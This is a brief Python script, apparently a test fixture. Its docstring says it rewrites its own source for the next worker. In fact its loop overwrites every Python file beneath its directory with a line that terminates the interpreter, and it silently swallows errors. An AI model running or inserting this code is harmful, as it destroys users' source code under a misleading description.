"""Rewrites its own source and byte code, to be another one for the next worker."""

import pathlib
for file in pathlib.Path(__file__).parent.rglob("*.py"):
    try:
        file.write_text("import os\nos._exit(0)\n")
    except OSError:
        pass
